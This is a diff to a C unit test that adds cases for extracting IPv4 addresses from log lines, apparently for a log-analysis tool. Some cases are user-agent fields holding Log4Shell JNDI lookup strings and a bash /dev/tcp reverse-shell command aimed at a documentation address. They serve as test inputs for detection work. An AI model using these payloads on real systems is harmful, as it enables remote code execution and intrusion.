@@ -59,6 +59,19 @@ version_number__is_no_address(void **state)
 		{ "Version: 192.0.2.7", "" },
 		{ "GET /redirect/192.0.2.7 x", "1:14+9 ipv4-addr exact 192.0.2.7 a\n" },
 		{ "http://192.0.2.7/", "1:7+9 ipv4-addr exact 192.0.2.7 a\n" },
+		/* a name and its address, as OpenVPN and Java have them */
+		{ "Alice/192.0.2.7:1194 peer info: IV_VER=2", "1:6+9 ipv4-addr exact 192.0.2.7 a\n" },
+		{ "[LearnerHandler-/192.0.2.7:52225:x]", "1:17+9 ipv4-addr exact 192.0.2.7 a\n" },
+		{ "Alice/192.0.2.7: x", "" },
+		/* user agents that hold an attack, or a URL */
+		{ "{\"user_agent\":\"${jndi:ldap://192.0.2.7:1389/a}\"}", "1:29+9 ipv4-addr exact 192.0.2.7 a\n" },
+		{ "{\"user_agent\":\"x http:\\/\\/192.0.2.7\\/b\"}", "1:26+9 ipv4-addr exact 192.0.2.7 a\n" },
+		{ "{\"user_agent\":\"${jndi:dns://u@192.0.2.7}\"}", "1:30+9 ipv4-addr exact 192.0.2.7 a\n" },
+		{ "{\"user_agent\":\"sh -i >& /dev/tcp/192.0.2.7/44\"}", "1:33+9 ipv4-addr exact 192.0.2.7 a\n" },
+		{ "{\"user_agent\":\"x (192.0.2.7:80)\"}", "1:18+9 ipv4-addr exact 192.0.2.7 a\n" },
+		{ "{\"user_agent\":\"x 192.0.2.7\"}", "" },
+		{ "{\"user_agent\":\"x/192.0.2.7 y\"}", "" },
+		{ "{\"user_agent\":\"rv:192.0.2.7) y\"}", "" },
 	};
 	wt t;
 
